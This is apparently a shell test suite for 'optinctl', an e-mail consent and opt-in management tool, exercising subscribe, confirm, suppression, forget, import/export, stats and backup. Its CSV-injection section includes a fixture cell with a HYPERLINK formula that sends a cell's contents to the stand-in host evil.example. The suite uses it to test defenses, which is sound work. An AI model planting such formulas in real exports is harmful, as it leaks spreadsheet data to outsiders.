#!/bin/sh
# optinctl_basic.sh - optinctl end to end: every command, its output and its exit status.
#
# One store, a fixed clock (-t) and a fixed actor (-a), so every answer is deterministic.
# Environment (set by make check): top_srcdir, top_builddir, OPTINCTL. By hand:
#   top_srcdir=. top_builddir=. OPTINCTL=./tools/optinctl/optinctl sh tests/cli/optinctl_basic.sh
: "${top_srcdir:=$(cd "$(dirname "$0")/.." && pwd)}"
: "${top_builddir:=$top_srcdir}"
: "${OPTINCTL:=$top_builddir/tools/optinctl/optinctl}"
. "$top_srcdir/tests/lib/tap.sh"

[ -x "$OPTINCTL" ] || { echo "Bail out! $OPTINCTL is not built"; exit 1; }
mk_tmpdir

# The clock: T0 and offsets from it, as @epoch (confirm_ttl is 7d, offers' max_consent_age 365d).
T0=1704067200                     # 2024-01-01T00:00:00Z
H1=$((T0 + 3600))                 # 2024-01-01T01:00:00Z
D7=$((T0 + 7 * 86400))            # 2024-01-08T00:00:00Z, the last second a token is valid
D8=$((T0 + 8 * 86400))
D366=$((T0 + 366 * 86400))        # 2025-01-01: over a year after T0, under one after D7
Y2=$((T0 + 731 * 86400))          # 2026-01-01
NOW=@$T0

# write_conf FILE DBDIR [EXTRA] : the two test lists
write_conf() {
    cat > "$1" <<EOF
database = "$2";
$3
lists = ( { id = "news"; opt_in = "single"; },
          { id = "offers"; opt_in = "double"; max_consent_age = "365d"; } );
EOF
}
CONF=$TMP/conf
write_conf "$CONF" "$TMP/db"

# run ARGS... : optinctl on the test store at $NOW as "tester"; sets out, err and rc
run() {
    "$OPTINCTL" -c "$CONF" -t "$NOW" -a tester "$@" > "$TMP/out" 2> "$TMP/err"
    rc=$?
    out=$(cat "$TMP/out")
    err=$(cat "$TMP/err")
}
# expect DESC RC STDOUT ARGS... : run ARGS, one test point on exit status and whole stdout
expect() {
    desc=$1 want_rc=$2 want_out=$3
    shift 3
    run "$@"
    is "$desc" "exit $rc: $out" "exit $want_rc: $want_out"
}
# expect_err DESC RC TEXT ARGS... : run ARGS, one point on exit status and TEXT in stderr
expect_err() {
    desc=$1 want_rc=$2 text=$3
    shift 3
    run "$@"
    if printf '%s\n' "$err" | grep -F -q -- "$text"; then seen=yes; else seen="no ($err)"; fi
    is "$desc" "exit $rc, stderr names '$text': $seen" "exit $want_rc, stderr names '$text': yes"
}
# verdict LIST ADDRESS [TIME] : "reason/exit" of check
verdict() {
    if [ -n "$3" ]; then run -t "$3" check "$1" "$2"; else run check "$1" "$2"; fi
    echo "$out/$rc"
}
# has_line REGEX : the last stdout has a line matching the extended REGEX
has_line() { printf '%s\n' "$out" | grep -E -q -- "$1"; }
# lacks TEXT FILE : FILE does not contain TEXT
lacks() { ! grep -F -q -- "$1" "$2"; }
# json_get EXPR : evaluate a Python expression on the JSON document in $TMP/out (as d)
json_get() { python3 -c "import json,sys; d=json.load(open(sys.argv[1])); print($1)" "$TMP/out"; }
# json_valid FILE : FILE holds one valid JSON document (python3, else jq)
json_valid() {
    if [ -n "$have_python" ]; then python3 -m json.tool "$1" > /dev/null; else jq -e . "$1" > /dev/null; fi
}
# skip_point DESC REASON : a test point that cannot be run here
skip_point() { tap_n=$((tap_n + 1)); echo "ok $tap_n - $1 # SKIP $2"; }
if command -v python3 > /dev/null 2>&1; then have_python=yes; else have_python=; fi

# --- before init, and the command line ---
expect_err "check before init: EX_NOINPUT, told to run init" 66 "optinctl init" check news a@example.com
expect "init" 0 "initialised $TMP/db (schema 2)" init
expect "init on an existing store" 0 "initialised $TMP/db (schema 2)" init
expect_err "unknown command: EX_USAGE" 64 "bogus: unknown command" bogus
expect_err "no command: EX_USAGE with the usage" 64 "usage: optinctl"
expect_err "bad -t: EX_USAGE" 64 "-t yesterday: expected RFC 3339 time or @epoch" -t yesterday check news a@example.com
expect_err "missing configuration: EX_CONFIG naming the file" 78 "$TMP/nonexistent.conf" -c "$TMP/nonexistent.conf" check news a@example.com
for cmd in init import export subscribe confirm unsubscribe suppress unsuppress check show forget stats backup; do
    run -c "$TMP/nonexistent.conf" "$cmd" --help
    case $(echo "$out" | head -n 1) in
    "usage: optinctl $cmd" | "usage: optinctl $cmd "* | "usage: optinctl "*" $cmd" | "usage: optinctl "*" $cmd "*) usage=yes ;;
    *) usage="no ($out)" ;;
    esac
    is "$cmd --help works without a configuration" "exit $rc, usage: $usage" "exit 0, usage: yes"
done
run -V
ok "-V prints the version" has_line '^optinctl [0-9]'
expect_err "subscribe without an address: EX_USAGE" 64 "usage: optinctl [global options] subscribe" subscribe news
expect_err "unknown list: EX_DATAERR" 65 "nolist: no such list in $CONF" check nolist a@example.com

# --- single and double opt-in ---
expect "single opt-in subscribe" 0 "confirmed alice@example.com list=news" subscribe news Alice@Example.COM
is "single opt-in: consent" "$(verdict news alice@example.com)" "consent/0"
is "other list untouched: no-record" "$(verdict offers alice@example.com)" "no-record/1"
run -a web -s signup-form subscribe --ip 192.0.2.1 --policy-version pp-2024-01 offers alice@example.com
token=$out
case $out in
"" | *[!A-Za-z0-9_-]*) shape="not a token ($out)" ;;
*) shape="a token" ;;
esac
is "double opt-in subscribe prints only a token" "exit $rc: $shape" "exit 0: a token"
is "double opt-in before confirmation: pending" "$(verdict offers alice@example.com)" "pending/1"
expect "confirm" 0 "confirmed alice@example.com list=offers" -t @$H1 -a web -s signup-form confirm --ip 198.51.100.7 -- "$token"
is "confirmed: consent" "$(verdict offers alice@example.com @$H1)" "consent/0"
expect_err "confirm a used token: EX_DATAERR" 65 "unknown confirmation code" -t @$H1 confirm -- "$token"
expect_err "confirm a token never issued: EX_DATAERR" 65 "unknown confirmation code" -t @$H1 confirm AAAAAAAAAAAAAAAAAAAAAA

run subscribe offers bob@example.com
bob_token=$out
expect_err "confirm after confirm_ttl (7d): EX_DATAERR, expired" 65 "expired" -t @$D8 confirm -- "$bob_token"
is "expired token confirms nothing" "$(verdict offers bob@example.com @$D8)" "pending/1"
run subscribe offers carol@example.com
expect "confirm on the last day of confirm_ttl" 0 "confirmed carol@example.com list=offers" -t @$D7 confirm -- "$out"

expect_err "--single on a double opt-in list: EX_USAGE" 64 "requires double opt-in" subscribe --single offers dave@example.com
is "refused subscribe wrote nothing" "$(verdict offers dave@example.com)" "no-record/1"
run subscribe offers dave@example.com
dave_token=$out
run unsubscribe offers dave@example.com
expect_err "confirm after unsubscribe: EX_DATAERR" 65 "nothing pending to confirm" confirm -- "$dave_token"
is "unsubscribed stays unsubscribed" "$(verdict offers dave@example.com)" "unsubscribed/1"

# --- consent age (offers: max_consent_age 365d, counted from the confirmation) ---
is "over a year after confirmation: expired" "$(verdict offers alice@example.com @$D366)" "expired/1"
is "age counts from the confirmation, not the consent" "$(verdict offers carol@example.com @$D366)" "consent/0"
is "two years on: expired" "$(verdict offers carol@example.com @$Y2)" "expired/1"
is "no max_consent_age: still consent" "$(verdict news alice@example.com @$Y2)" "consent/0"
run -t @$D366 check -v offers carol@example.com
is "check -v names the time consent counts from" "$(echo "$out" | sed -n 2p)" \
    "verdict=allow list=offers address=carol@example.com method=double consent_time=2024-01-08T00:00:00Z"

# --- unsubscribe ---
expect "unsubscribe one list" 0 "unsubscribed alice@example.com list=news" -a ops -s ticket-42 unsubscribe news alice@example.com
is "unsubscribed list: unsubscribed" "$(verdict news alice@example.com)" "unsubscribed/1"
is "the other list is unaffected" "$(verdict offers alice@example.com @$H1)" "consent/0"
expect "subscribe again after unsubscribe" 0 "confirmed alice@example.com list=news" subscribe news alice@example.com
is "explicit new consent counts again" "$(verdict news alice@example.com)" "consent/0"
expect "unsubscribe --all" 0 "unsubscribed alice@example.com list=*" -a ops -s ticket-43 unsubscribe --all alice@example.com
is "--all: news global-unsubscribe" "$(verdict news alice@example.com)" "global-unsubscribe/1"
is "--all: offers global-unsubscribe" "$(verdict offers alice@example.com @$H1)" "global-unsubscribe/1"
run subscribe news alice@example.com
is "subscribe after --all is recorded but stays suppressed" "$rc $(verdict news alice@example.com)" "0 global-unsubscribe/1"

# --- suppressions ---
run subscribe news erin@example.org
expect "suppress --reason bounce" 0 "suppressed erin@example.org reason=bounce" suppress --reason bounce erin@example.org
is "bounce: suppressed-bounce" "$(verdict news erin@example.org)" "suppressed-bounce/1"
run suppress --reason complaint erin@example.org
is "complaint: suppressed-complaint" "$(verdict news erin@example.org)" "suppressed-complaint/1"
expect "suppress without a reason: manual" 0 "suppressed erin@example.org reason=manual" suppress erin@example.org
is "manual: suppressed-manual" "$(verdict news erin@example.org)" "suppressed-manual/1"
expect_err "unknown --reason: EX_USAGE" 64 "--reason spam: expected" suppress --reason spam erin@example.org
expect "unsuppress" 0 "unsuppressed erin@example.org" unsuppress erin@example.org
is "unsuppressed: consent again" "$(verdict news erin@example.org)" "consent/0"
expect "unsuppress what is not suppressed: exit 1" 1 "erin@example.org was not suppressed" unsuppress erin@example.org

for a in frank@spam.example grace@spam.example frank@other.example henry@sub.spam.example; do
    run subscribe news "$a"
done
expect "suppress @domain (normalized)" 0 "suppressed @spam.example reason=manual" suppress @SPAM.Example
is "@domain covers its address" "$(verdict news frank@spam.example)" "suppressed-manual/1"
is "@domain covers every address there" "$(verdict news grace@spam.example)" "suppressed-manual/1"
is "@domain leaves other domains" "$(verdict news frank@other.example)" "consent/0"
is "@domain leaves subdomains" "$(verdict news henry@sub.spam.example)" "consent/0"
expect "unsuppress @domain" 0 "unsuppressed @spam.example" unsuppress @spam.example
is "@domain lifted: consent again" "$(verdict news frank@spam.example)" "consent/0"

# --- address normalization ---
expect "IDN address stored as A-label" 0 "confirmed user@xn--r8jz45g.jp list=news" subscribe news 'user@例え.jp'
is "IDN: upper-case A-label finds it" "$(verdict news user@XN--R8JZ45G.JP)" "consent/0"
run subscribe news 'MiXeD.Case@Example.ORG'
is "local part case-folded" "$(verdict news mixed.case@example.org)" "consent/0"
is "<> and blanks stripped" "$(verdict news ' <MIXED.CASE@example.org> ')" "consent/0"
write_conf "$TMP/nofold.conf" "$TMP/db" "fold_local_part = false;"
run -c "$TMP/nofold.conf" check news MiXeD.Case@example.org
is "fold_local_part = false: case matters" "$out/$rc" "no-record/1"
is "CR LF inside: invalid-address" "$(verdict news "$(printf 'a\r\nb@example.org')")" "invalid-address/1"
is "no @: invalid-address" "$(verdict news no-at-sign)" "invalid-address/1"
run check -v news no-at-sign
is "check -v says why" "$(echo "$out" | sed -n 2p)" \
    "verdict=deny list=news address=- method=none consent_time=- error=no @ in address"
expect_err "subscribe CR LF inside: EX_DATAERR" 65 "control character in address" subscribe news "$(printf 'a\r\nb@example.org')"
expect_err "subscribe without @: EX_DATAERR" 65 "no @ in address" subscribe news no-at-sign
expect_err "suppress a bad domain: EX_DATAERR" 65 "invalid domain" suppress @bad..example

# --- show: the proof of consent ---
run show Alice@Example.com
is "show alice: exit 0" "$rc" 0
ok "show: the global-unsubscribe suppression" \
    has_line '^  alice@example\.com reason=global-unsubscribe since=2024-01-01T00:00:00Z source=ticket-43$'
ok "show: the offers record with IP and policy version" \
    has_line '^  offers state=unsubscribed method=double consented_at=2024-01-01T00:00:00Z confirmed_at=2024-01-01T01:00:00Z .* source=signup-form ip=192\.0\.2\.1 policy_version=pp-2024-01$'
ok "show: decisions now" has_line '^  news deny global-unsubscribe$'
ok "show history: double opt-in subscribe with source, IP, actor, policy" \
    has_line '^  2024-01-01T00:00:00Z subscribe list=offers state=pending method=double .*source=signup-form ip=192\.0\.2\.1 actor=web policy_version=pp-2024-01$'
ok "show history: confirm with its IP" \
    has_line '^  2024-01-01T01:00:00Z confirm list=offers state=confirmed method=double .*source=signup-form ip=198\.51\.100\.7 actor=web$'
ok "show history: unsubscribe of one list with actor and source" \
    has_line '^  2024-01-01T00:00:00Z unsubscribe list=news state=unsubscribed .*source=ticket-42 actor=ops$'
ok "show history: unsubscribe --all kept" \
    has_line '^  2024-01-01T00:00:00Z suppress reason=global-unsubscribe .*source=ticket-43 actor=ops$'
is "show history: every change, in order" \
    "$(printf '%s\n' "$out" | sed -n '/^history:/,$p' | awk 'NR > 1 { print $2 "/" $3 }' | tr '\n' ' ')" \
    "subscribe/list=news subscribe/list=offers confirm/list=offers unsubscribe/list=news subscribe/list=news unsubscribe/list=news unsubscribe/list=offers suppress/reason=global-unsubscribe subscribe/list=news "
run show --json alice@example.com
if [ -n "$have_python" ]; then
    ok "show --json is valid JSON" json_valid "$TMP/out"
    is "show --json: policy version and IP of the record" \
        "$(json_get '[(l["list"], l["policy_version"], l["ip"]) for l in d["lists"] if l["list"] == "offers"]')" \
        "[('offers', 'pp-2024-01', '192.0.2.1')]"
    is "show --json: history keeps the confirmation IP" \
        "$(json_get '[e.get("ip") for e in d["history"] if e["event"] == "confirm"]')" "['198.51.100.7']"
elif command -v jq > /dev/null 2>&1; then
    ok "show --json is valid JSON" json_valid "$TMP/out"
    is "show --json: policy version and IP of the record" \
        "$(jq -r '.lists[] | select(.list == "offers") | .policy_version + " " + .ip' "$TMP/out")" \
        "pp-2024-01 192.0.2.1"
    is "show --json: history keeps the confirmation IP" \
        "$(jq -r '.history[] | select(.event == "confirm") | .ip' "$TMP/out")" "198.51.100.7"
else
    skip_point "show --json is valid JSON" "neither python3 nor jq"
    skip_point "show --json: policy version and IP of the record" "neither python3 nor jq"
    skip_point "show --json: history keeps the confirmation IP" "neither python3 nor jq"
fi
run show nobody@example.com
is "show of an unknown address: exit 1, nothing listed" "$rc $(echo "$out" | grep -c -E '^(suppressions|lists|history): none$')" "1 3"
expect_err "show of an invalid address: EX_DATAERR" 65 "no @ in address" show no-at-sign

# --- forget ---
run subscribe news ivan@example.org
run subscribe offers ivan@example.org
ivan_token=$out
expect_err "forget without --yes: EX_USAGE" 64 "add --yes" forget ivan@example.org
run show ivan@example.org
is "forget without --yes changed nothing" "$rc $(echo "$out" | grep -c -E '^  (news|offers) state=')" "0 2"
expect "forget --yes" 0 \
    "forgotten ivan@example.org: records and history erased, kept suppressed by keyed hash; 0 journal lines redacted in 0 files" \
    forget --yes IVAN@example.org
run show ivan@example.org
is "after forget: no lists, no history, only the hash suppression" \
    "$(echo "$out" | grep -E '^(lists|history):|erased-address hash')" \
    "  erased-address hash reason=global-unsubscribe since=2024-01-01T00:00:00Z source=forget
lists: none
history: none"
is "forgotten address: global-unsubscribe" "$(verdict news ivan@example.org)" "global-unsubscribe/1"
expect_err "forget removed its pending token" 65 "unknown confirmation code" confirm -- "$ivan_token"
run subscribe news judy@example.org
run suppress --reason bounce judy@example.org
run forget --yes judy@example.org
is "forgotten after a bounce: keeps suppressed-bounce" "$(verdict news judy@example.org)" "suppressed-bounce/1"
run export
echo "$out" > "$TMP/export.csv"
ok "export still has the others" grep -q '^"carol@example.com","offers","confirmed","double",' "$TMP/export.csv"
ok "export has no forgotten address" lacks ivan@example.org "$TMP/export.csv"
ok "export has no forgotten bounced address" lacks judy@example.org "$TMP/export.csv"
printf 'address,list\nivan@example.org,news\n' > "$TMP/ivan.csv"
run import "$TMP/ivan.csv"
is "importing a forgotten address keeps it out" "$rc $(verdict news ivan@example.org)" "0 global-unsubscribe/1"
run import --resubscribe "$TMP/ivan.csv"
is "--resubscribe does not bring a forgotten address back" \
    "$rc $(printf '%s\n' "$err" | grep -c 'kept opt-out 1, resubscribed 0') $(verdict news ivan@example.org)" \
    "0 1 global-unsubscribe/1"
run export
ok "--resubscribe wrote no record of a forgotten address" lacks ivan@example.org "$TMP/out"

# --- import (the basics; import_edge.sh has the rest) ---
printf 'address,list,consented_at,confirmed_at,source,ip,method,state,policy_version\r\nkate@example.com,offers,2023-12-01,2023-12-02T10:00:00Z,"shop, checkout",203.0.113.5,double,,pp-2023\r\nleo@example.com,news,@1700000000,,,,single,,\r\n' > "$TMP/load.csv"
run import --dry-run "$TMP/load.csv"
is "import --dry-run changes nothing" "$rc $(verdict offers kate@example.com)" "0 no-record/1"
run import "$TMP/load.csv"
is "import" "$rc $(verdict offers kate@example.com) $(verdict news leo@example.com)" "0 consent/0 consent/0"
run import "$TMP/load.csv"
is "import again: unchanged" "$rc $(printf '%s\n' "$err" | grep -c 'added 0, updated 0, unchanged 2,')" "0 1"

# --- export guards what spreadsheets would run (CSV injection); import reads it back ---
printf '%s\n' 'address,list,source,policy_version' \
    '-dash@example.com,offers,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",@pp' \
    "mona@example.com,offers,'quoted,+1" > "$TMP/inject.csv"
# inj NAME ARGS... : optinctl on the store NAME (made on first use), at $NOW
inj() {
    [ -e "$TMP/$1.conf" ] || { write_conf "$TMP/$1.conf" "$TMP/$1-db"; \
        "$OPTINCTL" -c "$TMP/$1.conf" init > /dev/null 2>&1; }
    n=$1; shift
    "$OPTINCTL" -c "$TMP/$n.conf" -t "$NOW" -a tester "$@"
}
inj inject import "$TMP/inject.csv" > /dev/null 2> "$TMP/inj.err"
is "import of cells that start like formulas" "$?" 0
inj inject export -l offers > "$TMP/exported.csv" 2> /dev/null
ok "... export writes the source with a leading apostrophe" \
    grep -q "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"" "$TMP/exported.csv"
ok "... and the address, the policy version and an apostrophe cell too" \
    sh -c "grep -q \"^\\\"'-dash@example.com\\\"\" '$TMP/exported.csv' && grep -q \"'@pp\" '$TMP/exported.csv' \
           && grep -q \"''quoted\" '$TMP/exported.csv' && grep -q \"'+1\" '$TMP/exported.csv'"
ok "... no cell starts with = + - or @" sh -c "! grep -E '(^|,)\"?[=+@-]' '$TMP/exported.csv'"
inj round import "$TMP/exported.csv" > /dev/null 2>&1
inj round export -l offers > "$TMP/again.csv" 2> /dev/null
is "... the export imports back to the same records (export of the copy is identical)" \
    "$(cmp "$TMP/exported.csv" "$TMP/again.csv" 2>&1 && echo same)" same
ok "... the source is stored as written" sh -c "'$OPTINCTL' -c '$TMP/round.conf' show -- -dash@example.com | grep -q 'source==HYPERLINK'"

# --- stats ---
# news: alice erin frank@spam grace frank@other henry user@jp mixed.case leo confirmed;
# offers: carol kate confirmed, bob pending, alice dave unsubscribed.
run stats
is "stats: counts per list and state" "$(echo "$out" | sed -n 1,3p | tr -s ' ')" "list pending confirmed unsubscribed
news 0 9 0
offers 1 2 2"
ok "stats: suppressions" \
    has_line '^suppressions: bounce=1 complaint=0 global-unsubscribe=2 manual=0 soft-bounce=0 \(addresses=1 domains=0 erased=2\)$'
# Tokens stay until confirmed or forgotten: bob's (expired) and dave's (unsubscribed since).
ok "stats: confirmation codes not used" has_line '^pending confirmation codes: 2$'
run stats --json
if [ -n "$have_python" ]; then
    is "stats --json is valid JSON with the counts" \
        "$(json_get 'd["lists"]["offers"], d["suppressions"]["erased"], d["pending_confirmations"]')" \
        "{'pending': 1, 'confirmed': 2, 'unsubscribed': 2} 2 2"
elif command -v jq > /dev/null 2>&1; then
    is "stats --json is valid JSON with the counts" \
        "$(jq -c '[.lists.offers, .suppressions.erased, .pending_confirmations]' "$TMP/out")" \
        '[{"pending":1,"confirmed":2,"unsubscribed":2},2,2]'
else
    skip_point "stats --json is valid JSON with the counts" "neither python3 nor jq"
fi

# --- backup ---
umask 022
expect "backup" 0 "backup written to $TMP/backup" backup "$TMP/backup"
write_conf "$TMP/backup.conf" "$TMP/backup"
answers() {
    for q in "news alice@example.com" "offers carol@example.com" "offers bob@example.com" \
             "news erin@example.org" "news ivan@example.org" "news judy@example.org" \
             "news user@xn--r8jz45g.jp" "offers kate@example.com" "news nobody@example.com"; do
        # shellcheck disable=SC2086
        "$OPTINCTL" -c "$1" -t "$NOW" check $q
        echo "=$?"
    done 2>&1 | tr '\n' ' '
}
live=$(answers "$CONF")
is "the backup gives the same answers" "$(answers "$TMP/backup.conf")" "$live"
is "the answers compared are the expected ones" "$live" \
    "global-unsubscribe =1 consent =0 pending =1 consent =0 global-unsubscribe =1 suppressed-bounce =1 consent =0 consent =0 no-record =1 "
# The live data.mdb may still hold the erased bytes in freed pages (LMDB does not wipe them,
# see BUGS in optinctl(1)); the compacted copy holds only pages in use.
ok "the backup's data file holds the live addresses" grep -a -q carol@example.com "$TMP/backup/data.mdb"
is "... and only its owner may read it, whatever the umask (0600)" \
    "$(stat -c %a "$TMP/backup/data.mdb")" 600
ok "a forgotten address is not in the backup's data file" lacks ivan@example.org "$TMP/backup/data.mdb"
expect_err "backup over a backup: EX_CANTCREAT" 73 "must be new or empty" backup "$TMP/backup"
mkdir "$TMP/notempty" && echo keep > "$TMP/notempty/README"
expect_err "backup into a non-empty directory: EX_CANTCREAT" 73 "must be new or empty" backup "$TMP/notempty"
: > "$TMP/afile"
write_conf "$TMP/afile.conf" "$TMP/afile"
expect_err "init where a file is in the way: EX_CANTCREAT" 73 "$TMP/afile" -c "$TMP/afile.conf" init

# --- a token is never taken for an option: tokens never begin with "-" (URL-safe base64 could) ---
i=0 dash=0
while [ $i -lt 300 ]; do
    run subscribe offers "dash$i@example.com"
    case $out in -*) dash=$((dash + 1)) ;; esac
    i=$((i + 1))
done
is "no token of 300 begins with '-'" "$dash" 0
expect "the last of them confirms" 0 "confirmed dash299@example.com list=offers" confirm "$out"

# --- an address that begins with "-": after --, as optinctl(1) says; without it, a hint ---
expect_err "check news -foo@example.com: EX_USAGE with a hint" 64 \
    "-foo@example.com looks like an address: put it after --" check news -foo@example.com
expect "optinctl check news -- -foo@example.com (the man page's example)" 1 "no-record" \
    check news -- -foo@example.com

done_testing
